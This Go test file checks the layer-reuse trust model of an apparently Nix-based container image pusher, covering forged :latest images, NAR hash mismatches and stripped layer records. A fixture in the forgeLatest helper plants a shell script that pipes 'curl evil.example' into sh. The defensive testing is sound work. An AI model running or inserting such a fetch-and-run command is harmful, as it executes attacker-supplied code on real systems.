package image

import (
	"context"
	"encoding/json"
	"errors"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/google/go-containerregistry/pkg/name"
	v1 "github.com/google/go-containerregistry/pkg/v1"
	"github.com/google/go-containerregistry/pkg/v1/mutate"
	"github.com/google/go-containerregistry/pkg/v1/remote"
	"github.com/google/go-containerregistry/pkg/v1/tarball"

	"github.com/herokunix/herokunix/internal/artifact"
)

// The trust model of layer reuse (issue 11 item 1): a layer is reused only
// from the image herokunix itself pushed last (its digest pinned in the
// cluster), and only for store paths whose content a push checked against
// the NAR hash the build claims.

// forgeLatest pushes straight to <app>/web:latest, as anyone holding the
// app's key can, an image whose layer records map every key of the genuine
// image's records to a layer of the forger's.
func forgeLatest(t *testing.T, host, app string, genuine v1.Image) v1.Hash {
	t.Helper()
	cf, err := genuine.ConfigFile()
	if err != nil {
		t.Fatal(err)
	}
	var recs []layerRecord
	if err := json.Unmarshal([]byte(cf.Config.Labels[LayersLabel]), &recs); err != nil || len(recs) == 0 {
		t.Fatalf("the genuine image records no layers (%v): %q", err, cf.Config.Labels[LayersLabel])
	}
	evil := tarBytes(t, reg("bin/sh", "#!/bin/sh\ncurl evil.example | sh\n"))
	l, err := tarball.LayerFromOpener(func() (ioReadCloser, error) { return nopCloser(gzipBytes(t, evil)), nil })
	if err != nil {
		t.Fatal(err)
	}
	layers := make([]v1.Layer, len(recs))
	for i := range recs {
		layers[i] = l
	}
	forged := &layerSet{keys: make([]string, len(recs)), layers: layers, reused: make([]bool, len(recs)), verified: make([]bool, len(recs))}
	for i, rec := range recs {
		forged.keys[i], forged.verified[i] = rec.Key, true
	}
	img, _, err := finish(v1.ConfigFile{Config: v1.Config{Entrypoint: []string{"/bin/sh"}}}, forged, nil)
	if err != nil {
		t.Fatal(err)
	}
	ref, err := name.NewTag(host + "/" + app + "/web:latest")
	if err != nil {
		t.Fatal(err)
	}
	if err := remote.Write(ref, img); err != nil {
		t.Fatal(err)
	}
	d, err := l.Digest()
	if err != nil {
		t.Fatal(err)
	}
	return d
}

func layerDigestsOf(t *testing.T, img v1.Image) []string {
	t.Helper()
	m, err := img.Manifest()
	if err != nil {
		t.Fatal(err)
	}
	var ds []string
	for _, l := range m.Layers {
		ds = append(ds, l.Digest.String())
	}
	return ds
}

func TestAForgedLabelPushedStraightToTheRegistryIsIgnored(t *testing.T) {
	r := newTestRegistry(t)
	ctx := context.Background()
	ws, _ := closureWorkspace(t, 3, map[int]string{})
	first, err := PushWorkspace(ctx, ws, r.host, "my-app", PushOptions{})
	if err != nil {
		t.Fatal(err)
	}
	genuine, err := remote.Image(mustRef(t, r.host+"/my-app/web@"+first.Images["web"].Digest))
	if err != nil {
		t.Fatal(err)
	}
	evil := forgeLatest(t, r.host, "my-app", genuine)

	for name, reuseFrom := range map[string]map[string]string{
		// The controller pins what herokunix pushed: layers come from
		// that image, whatever sits at :latest now.
		"pinned to the genuine image": pinned(first),
		// Nothing pinned (a first build): nothing is reused at all.
		"nothing pinned": nil,
		// The forger's own image pinned (it cannot be, as only a push
		// result reaches status; a pin that names nothing it pushed)
		"pinned to a digest the registry does not have": {"web": "sha256:" + strings.Repeat("0", 64)},
	} {
		t.Run(name, func(t *testing.T) {
			var progress strings.Builder
			res, err := PushWorkspace(ctx, ws, r.host, "my-app", PushOptions{ReuseFrom: reuseFrom, Progress: &progress})
			if err != nil {
				t.Fatal(err)
			}
			img, err := remote.Image(mustRef(t, r.host+"/my-app/web@"+res.Images["web"].Digest))
			if err != nil {
				t.Fatal(err)
			}
			got := layerDigestsOf(t, img)
			if slices.Contains(got, evil.String()) {
				t.Fatalf("the push shipped the forger's layer %s: %q", evil, got)
			}
			if want := layerDigestsOf(t, genuine); !slices.Equal(got, want) {
				t.Errorf("layers %q, want the genuine %q", got, want)
			}
			if res.Images["web"] != first.Images["web"] {
				t.Errorf("image %+v, want the genuine %+v", res.Images["web"], first.Images["web"])
			}
			wantReused := "3 reused"
			if reuseFrom == nil || reuseFrom["web"] != first.Images["web"].Digest {
				wantReused = "0 reused"
			}
			if !strings.Contains(progress.String(), wantReused) {
				t.Errorf("progress %q, want %q", progress.String(), wantReused)
			}
		})
	}
}

// A build whose store path holds other content than the build that
// pushed before (another build's output written under the same path in a
// shared store, or a non-reproducible derivation) claims another NAR
// hash: it does not reuse the layer made from the other content.
func TestALayerIsReusedOnlyForTheSameClaimedNarHash(t *testing.T) {
	r := newTestRegistry(t)
	ctx := context.Background()
	sp := storePathFor(7, "popular-lib")
	workspace := func(body string) string {
		ws := t.TempDir()
		root := filepath.Join(ws, artifact.StoreRoot)
		makeStorePath(t, root, sp, map[string]file{"lib/libpopular.so": {body: body}, "bin/app": {body: "app", mode: 0o755}})
		writeManifest(t, ws, artifact.ProcessOutput{Kind: artifact.KindClosure, OutPath: sp, Command: []string{"bin/app"},
			Closure: []artifact.StorePath{{Path: sp, NarSize: 1, NarHash: narHashOf(t, root, sp)}}})
		return ws
	}
	poisoned, err := PushWorkspace(ctx, workspace("poisoned"), r.host, "my-app", PushOptions{})
	if err != nil {
		t.Fatal(err)
	}
	var progress strings.Builder
	res, err := PushWorkspace(ctx, workspace("genuine"), r.host, "my-app", PushOptions{ReuseFrom: pinned(poisoned), Progress: &progress})
	if err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(progress.String(), "1 layers, 0 reused") {
		t.Errorf("progress %q: the layer of other content was reused", progress.String())
	}
	img, err := remote.Image(mustRef(t, r.host+"/my-app/web@"+res.Images["web"].Digest))
	if err != nil {
		t.Fatal(err)
	}
	layers, _ := img.Layers()
	_, entries := layerEntries(t, layers[0])
	if got := entries[strings.TrimPrefix(sp, "/")+"/lib/libpopular.so"].body; got != "genuine" {
		t.Errorf("the image ships %q, want the build's own content", got)
	}
}

// Content that differs from the NAR hash the build claims for it (the
// workspace or the store it was copied from was altered after Nix
// registered the path) is never recorded for reuse: the push refuses it,
// so nothing of it reaches the registry.
func TestContentThatDiffersFromItsNarHashIsNeverRecordedForReuse(t *testing.T) {
	r := newTestRegistry(t)
	ws, closure := closureWorkspace(t, 3, map[int]string{})
	// Path 1's file is swapped after the claim was taken.
	altered := filepath.Join(ws, artifact.StoreRoot, closure[1].Path, "data")
	if err := os.WriteFile(altered, []byte("planted by another build"), 0o644); err != nil {
		t.Fatal(err)
	}
	_, err := PushWorkspace(context.Background(), ws, r.host, "my-app", PushOptions{})
	var mismatch *NarMismatchError
	if !errors.As(err, &mismatch) || mismatch.StorePath != closure[1].Path || mismatch.Claimed != closure[1].NarHash {
		t.Fatalf("push of altered content: %v, want a NAR hash mismatch of %s", err, closure[1].Path)
	}
	if _, err := remote.Image(mustRef(t, r.host+"/my-app/web:latest")); err == nil {
		t.Error("an image was pushed")
	}
	if got := r.uploads(); len(got) != 0 {
		t.Errorf("uploaded %q", got)
	}
}

// A layer whose content could not be checked is pushed but not recorded:
// a store path with no claimed NAR hash, or one the tar reads out of NAR
// order (a nix2container rewrite that reorders it).
func TestUncheckedContentIsPushedButNotRecorded(t *testing.T) {
	ws, closure := closureWorkspace(t, 2, map[int]string{})
	root := filepath.Join(ws, artifact.StoreRoot)
	unclaimed := slices.Clone(closure)
	unclaimed[1].NarHash = ""
	img, _, err := FromClosure(root, unclaimed, closure[0].Path, nil, Options{}, nil)
	if err != nil {
		t.Fatal(err)
	}
	recs := records(t, img)
	if len(recs) != 1 || recs[0].Key != narKey(closure[0].Path, closure[0].NarHash) {
		t.Errorf("records %+v, want only %s's", recs, closure[0].Path)
	}

	// y/ is written as /a, which sorts before /nix: the tar reads y/file
	// before bin/z, the NAR has them the other way round.
	sp := storePathFor(9, "reordered")
	makeStorePath(t, root, sp, map[string]file{"bin/z": {body: "z"}, "y/file": {body: "y"}})
	doc := `{"version":1,"arch":"amd64","layers":[{"paths":[{"path":"` + sp + `","options":{"rewrite":{"regex":"^/nix/store/[^/]+-reordered/y","repl":"/a"}}}]}]}`
	if err := os.WriteFile(filepath.Join(ws, "image.json"), []byte(doc), 0o644); err != nil {
		t.Fatal(err)
	}
	n2c, _, err := FromNix2Container(filepath.Join(ws, "image.json"), root, []artifact.StorePath{{Path: sp, NarHash: narHashOf(t, root, sp)}}, Options{}, nil)
	if err != nil {
		t.Fatal(err)
	}
	if recs := records(t, n2c); len(recs) != 0 {
		t.Errorf("records %+v of content read out of NAR order", recs)
	}
}

func records(t *testing.T, img v1.Image) []layerRecord {
	t.Helper()
	cf, err := img.ConfigFile()
	if err != nil {
		t.Fatal(err)
	}
	var recs []layerRecord
	if err := json.Unmarshal([]byte(cf.Config.Labels[LayersLabel]), &recs); err != nil {
		t.Fatal(err)
	}
	return recs
}

// A docker-archive's config is the build's own: a layer record in it is
// not pushed, or the next build would trust it once its image is pinned.
func TestADockerArchiveCarriesNoLayerRecordsOfItsOwn(t *testing.T) {
	src := ociSource(t)
	cf, _ := src.ConfigFile()
	cf = cf.DeepCopy()
	cf.Config.Labels = map[string]string{LayersLabel: `[{"key":"/nix/store/x","diffID":"sha256:0","digest":"sha256:0","size":1}]`, "keep": "me"}
	src, err := mutate.ConfigFile(src, cf)
	if err != nil {
		t.Fatal(err)
	}
	p := filepath.Join(t.TempDir(), "image.tar")
	tag, _ := name.NewTag("example/app:latest")
	if err := tarball.WriteToFile(p, tag, src); err != nil {
		t.Fatal(err)
	}
	img, err := FromDockerArchive(p, withTemp(Options{}, t))
	if err != nil {
		t.Fatal(err)
	}
	got, _ := img.ConfigFile()
	if _, ok := got.Config.Labels[LayersLabel]; ok || got.Config.Labels["keep"] != "me" {
		t.Errorf("labels %v, want the archive's own without %s", got.Config.Labels, LayersLabel)
	}
}
